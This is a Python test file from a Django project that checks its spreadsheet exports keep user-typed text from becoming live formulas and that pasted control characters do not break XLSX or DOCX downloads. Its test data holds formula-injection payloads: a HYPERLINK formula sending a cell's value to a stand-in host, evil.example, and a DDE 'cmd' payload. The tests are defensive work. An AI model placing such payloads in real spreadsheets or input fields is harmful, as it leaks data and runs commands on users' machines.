"""Exports: what users typed never becomes a live formula, and control characters pasted from
Word never break a DOCX or XLSX download (issue 9, "Input that hurts")."""

import io

import docx
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from lantoa.activities.models import Registration
from lantoa.activities.services import registration_create
from lantoa.activities.tests.factories import activity_make
from lantoa.core.spreadsheets import safe_cell, safe_row, safe_set

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C4,"Bấm vào đây")'


def _cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def test_safe_cells_keep_text_as_typed_but_never_as_a_formula():
    wb = Workbook()
    ws = wb.active
    ws.append(
        safe_row(ws, [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "-2", "+84 912 345 678"])
    )
    safe_set(ws, 2, 1, "=1+1\x01")
    write_only = Workbook(write_only=True)
    sheet = write_only.create_sheet("x")
    sheet.append([safe_cell(sheet, "-A1*2\x0b"), safe_cell(sheet, "Bình thường")])
    for book in (wb, write_only):
        out = io.BytesIO()
        book.save(out)
        cells = [c for c in _cells(out.getvalue()) if c.value is not None]
        assert cells and all(c.data_type != "f" for c in cells)
        if book is wb:
            values = [c.value for c in cells]
            assert values[:3] == [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1)"]
            assert "=1+1" in values and "+84 912 345 678" in values
            assert all(c.quotePrefix for c in cells if c.value in (HYPERLINK, "=1+1"))
        else:
            assert [c.value for c in cells] == ["-A1*2", "Bình thường"]


def test_registrations_export_with_formula_names_and_pasted_control_characters(demo, client_as):
    activity = activity_make(demo)
    registration_create(activity=activity, full_name=HYPERLINK, phone="0912345678", consent=True)
    pasted = registration_create(
        activity=activity, full_name="Nguyễn\x01 Văn\x0b An", phone="0912345679", consent=True
    )
    assert pasted.full_name == "Nguyễn Văn An"  # cleaned at the boundary
    # A name stored before the boundary cleaned input must not break the export for good.
    Registration.objects.filter(pk=pasted.pk).update(full_name="Trần\x01 Thị\x0b Bình")
    response = client_as("thcs.ngoclam").get(
        reverse("activities:registrations_xlsx", args=[activity.pk])
    )
    assert response.status_code == 200
    cells = _cells(response.content)
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert HYPERLINK in values and "Trần Thị Bình" in values


def test_document_docx_survives_control_characters(db):
    from lantoa.documents.models import Document
    from lantoa.documents.output import document_docx
    from lantoa.documents.tests.factories import issued, small_world

    document = issued(small_world())
    Document.objects.filter(pk=document.pk).update(subject="V/v Tuần lễ\x01 học tập\x0b suốt đời")
    data = document_docx(Document.objects.get(pk=document.pk))
    body = docx.Document(io.BytesIO(data)).element.body
    text = "".join(t.text or "" for t in body.iter(docx.oxml.ns.qn("w:t")))
    assert "Tuần lễ học tập suốt đời" in text
